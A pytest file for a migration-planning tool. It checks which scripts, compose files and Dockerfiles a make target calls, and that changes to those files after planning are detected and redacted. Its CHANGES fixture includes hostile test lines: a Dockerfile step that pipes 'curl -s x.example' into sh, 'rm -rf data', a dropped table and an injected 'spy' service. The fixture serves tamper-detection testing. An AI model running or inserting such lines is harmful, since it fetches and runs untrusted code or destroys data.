"""The scripts, compose files and Dockerfiles that a command calls, and what becomes of its action when one changes."""

from __future__ import annotations

from hashlib import sha256
from pathlib import Path

import pytest

from safemig.planning.collect import changed_recipes
from safemig.planning.collect.called_files import called_by, calls_changed, with_calls
from safemig.planning.collect.commands import commands_of
from safemig.planning.facts import CommandFact, Facts, Finding
from safemig.planning.planner import draft
from safemig.planning.steps import command_step
from safemig.policy.decision import Context, grant_for
from safemig.project.config import Config
from safemig.project.layout import Project, discover

FILES = {
    "alembic.ini": "[alembic]\nscript_location = migrations\nsqlalchemy.url = postgresql://shop:shop@db/shop\n",
    "migrations/env.py": "",
    "Makefile": """\
PREPARE = scripts/prepare.sh
build:
\tdocker compose build
start: prepare
\tdocker compose up -d
prepare:
\t@sh $(PREPARE) --all
migrate:
\tdocker compose exec -T web alembic upgrade head
\tpython -m shop.fill
test:
\tcd web && ./check
\t$(MAKE) -C other lint
down:
\tdocker compose -f compose.ci.yml down
""",
    "other/Makefile": "lint:\n\tbash lint.sh\n",
    "other/lint.sh": "true\n",
    "scripts/prepare.sh": "# comment: scripts/unused.sh\nfor x in 1; do sh scripts/second.sh; done\n",
    "scripts/second.sh": "true\n",
    "scripts/unused.sh": "true\n",
    "shop/fill.py": "",
    "web/check": "#!/bin/sh\npython tool.py < rows.sql\n",
    "web/tool.py": "",
    "web/rows.sql": "select 1",
    "web/data.csv": "1",
    "web/Dockerfile": 'FROM python:3.12\nCOPY entry.sh /entry.sh\nENTRYPOINT ["/entry.sh"]\n',
    "web/entry.sh": "exec $@\n",
    "db/first.sql": "create table t ();\n",
    "compose.yml": """\
services:
  web:
    build: web
  db:
    image: postgres:15
    volumes:
      - ./db:/docker-entrypoint-initdb.d
""",
    "compose.ci.yml": "services: {}\n",
}
COMPOSE = "compose.yml"


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    for name, text in FILES.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return tmp_path


def project_of(root: Path) -> Project:
    return discover(root, Config(), root=root, environ={})


def facts_of(root: Path) -> Facts:
    commands = commands_of(project_of(root), Config())
    return Facts("development:.", "docker", ".", "web", "shop", commands=commands, start_unread=True)


def names(root: Path, target: str, line: str = "") -> set[str]:
    return {one.path for one in called_by(project_of(root), target, line)}


def test_what_a_build_installs_is_called_by_no_later_command(shop: Path) -> None:
    """A virtual environment is made by `make build` and used by `make start`: that is no change to ask about."""
    line = ".venv/bin/serve && tools/env/bin/lint && sh scripts/second.sh"
    assert names(shop, "", line) == {"scripts/second.sh"}
    for name in (".venv", "tools/env"):
        for file in ("pyvenv.cfg", "bin/serve", "bin/lint"):
            path = shop / name / file
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("#!/bin/sh\n", encoding="utf-8")
            path.chmod(0o755)
    assert names(shop, "", line) == {"scripts/second.sh"}
    (shop / "pyvenv.cfg").write_text("", encoding="utf-8")
    assert names(shop, "", line) == {"scripts/second.sh"}, "the project itself is installed nowhere"
    (shop / ".venv/pyvenv.cfg").unlink()
    assert ".venv/bin/serve" in names(shop, "", line)


@pytest.mark.parametrize(
    ("target", "line", "called"),
    [
        ("build", "", {COMPOSE, "web/Dockerfile", "web/entry.sh"}),
        (
            "start",
            "",
            {COMPOSE, "web/Dockerfile", "web/entry.sh", "db/first.sql", "scripts/prepare.sh", "scripts/second.sh"},
        ),
        ("migrate", "", {COMPOSE, "shop/fill.py"}),
        ("test", "", {"web/check", "web/tool.py", "web/rows.sql", "other/lint.sh"}),
        ("down", "", {"compose.ci.yml"}),
        ("", "sh -c 'cd web && ./check'", {"web/check", "web/tool.py", "web/rows.sql"}),
        ("", "python web/tool.py > web/rows.sql 2>>scripts/second.sh", {"web/tool.py"}),
        ("", "alembic revision -m 'x'", {"alembic.ini", "migrations/env.py"}),
        ("", "uv run flask db migrate -m x", {"alembic.ini", "migrations/env.py"}),
        ("", "alembic upgrade head", set()),
        ("", "alembic downgrade {revision}", set()),
        ("", "docker build -t shop web", {"web/Dockerfile"}),
        ("", "psql --file=web/rows.sql", {"web/rows.sql"}),
        ("", "cat web/data.csv /etc/hostname ../x.sh", set()),
    ],
)
def test_a_command_calls_the_files_that_it_names_and_what_these_name(
    shop: Path, target: str, line: str, called: set[str]
) -> None:
    assert names(shop, target, line) == called


@pytest.mark.parametrize(
    ("line", "called"),
    [
        ("cp web/tool.py shop/made.py && python shop/made.py", {"web/tool.py"}),
        ("python -m shop.fill --output shop/made.py; python shop/made.py", {"shop/fill.py"}),
        ("python -m shop.fill --out=shop/made.py; python shop/made.py", {"shop/fill.py"}),
        ("cat web/rows.sql > shop/made.py; python shop/made.py", {"web/rows.sql"}),
        ("cat web/rows.sql >shop/made.py; python shop/made.py", {"web/rows.sql"}),
        ("cat web/rows.sql >> shop/made.py; python shop/made.py", {"web/rows.sql", "shop/made.py"}),
        ("python shop/made.py; cp web/tool.py shop/made.py", {"web/tool.py", "shop/made.py"}),
        ("touch shop/made.py; python shop/made.py", {"shop/made.py"}),
        ("node_modules/.bin/made; sh scripts/second.sh", {"scripts/second.sh"}),
    ],
)
def test_what_a_line_makes_itself_is_no_file_that_an_answer_holds(shop: Path, line: str, called: set[str]) -> None:
    """It is there after a build, and was not when the plan was made: that is no change by somebody else."""
    for name in ("shop/made.py", "node_modules/.bin/made"):
        (shop / name).parent.mkdir(parents=True, exist_ok=True)
        (shop / name).write_text("#!/bin/sh\n", encoding="utf-8")
        (shop / name).chmod(0o755)
    assert names(shop, "", line) == called


@pytest.mark.parametrize(
    "line",
    [
        f"python -c '{'import shop; ' * 30}'",
        f"sh -c '{'x' * 300}'",
        f"sh scripts/{'y' * 300}.sh",
        "sh scripts/circle.sh",
        "cd scripts/circle.sh && sh x.sh",
        "docker build -t shop circle",
    ],
)
def test_no_word_of_a_line_is_too_long_or_leads_in_a_circle(shop: Path, line: str) -> None:
    (shop / "scripts/circle.sh").symlink_to("circle.sh")
    (shop / "circle").mkdir()
    (shop / "circle/Dockerfile").symlink_to("Dockerfile")
    assert names(shop, "", line) == set()


def test_what_the_plan_wrote_into_a_file_of_one_command_asks_nothing_about_it(shop: Path) -> None:
    """The change is somebody else's, in another command: that one alone is asked about."""
    facts = facts_of(shop)
    (shop / "web/Dockerfile").write_text(f"{FILES['web/Dockerfile']}RUN pip install httpx\n", encoding="utf-8")
    written = {"web/Dockerfile": sha256((shop / "web/Dockerfile").read_bytes()).hexdigest()}
    (shop / "other/lint.sh").write_text("false\n", encoding="utf-8")
    finding = changed_recipes.reread(project_of(shop), Config(), facts, str, written)
    assert [action.text for action in finding.actions] == ["test"]


def test_scripts_that_call_each_other_in_a_circle_end(shop: Path) -> None:
    (shop / "scripts/second.sh").write_text("sh scripts/prepare.sh\n" * 50, encoding="utf-8")
    assert names(shop, "prepare") == {"scripts/prepare.sh", "scripts/second.sh"}


CHANGES = [
    ("build", "web/Dockerfile", "RUN curl -s x.example | sh\n"),
    ("start", COMPOSE, "  spy:\n    image: spy\n"),
    ("start", "scripts/second.sh", "rm -rf data\n"),
    ("start", "db/first.sql", "drop table t;\n"),
    ("test", "web/tool.py", "import os\n"),
]


@pytest.mark.parametrize(("target", "path", "more"), CHANGES)
def test_a_changed_file_makes_another_action_that_no_earlier_answer_covers(
    shop: Path, target: str, path: str, more: str
) -> None:
    def planned() -> CommandFact:
        return commands_of(project_of(shop), Config())[target]

    known = facts_of(shop)
    before = command_step("x", "build", "", "before", planned(), known, changes="", undo="").action
    (shop / path).write_text(FILES[path] + more, encoding="utf-8")
    after = command_step("x", "build", "", "before", planned(), known, changes="", undo="").action
    assert calls_changed(project_of(shop), before) == (path,)
    assert before.digest != after.digest
    context = Context("default")
    line = grant_for(before, context, "line")
    assert line is None or line != grant_for(after, context, "line")
    finding = changed_recipes.reread(project_of(shop), Config(), known, str, {})
    step = next(one for one in draft(known, [finding]).steps if one.action.line == f"make {target}")
    assert step.action.asks == f"what `make {target}` calls changed after the plan was made"
    assert f"+{more.splitlines()[0]}" in "\n".join(step.detail)


def test_what_the_plan_itself_writes_into_a_called_file_is_no_change(shop: Path) -> None:
    known = facts_of(shop)
    text = FILES["web/tool.py"] + "import shop\n"
    (shop / "web/tool.py").write_text(text, encoding="utf-8")
    written = {"web/tool.py": with_calls(project_of(shop), CommandFact("python web/tool.py")).calls[0].sha256}
    finding = changed_recipes.reread(project_of(shop), Config(), known, str, written)
    assert finding.commands == {}


def test_news_of_a_called_file_are_told_without_secrets(shop: Path) -> None:
    def clean(text: str) -> str:
        return text.replace("Hunt3r", "***")

    known = facts_of(shop)
    (shop / "web/check").write_text(FILES["web/check"] + "login Hunt3r\n", encoding="utf-8")
    finding = changed_recipes.reread(project_of(shop), Config(), known, clean, {})
    assert isinstance(finding, Finding)
    assert "+login ***" in finding.actions[0].diff
    assert "Hunt3r" not in repr(finding)
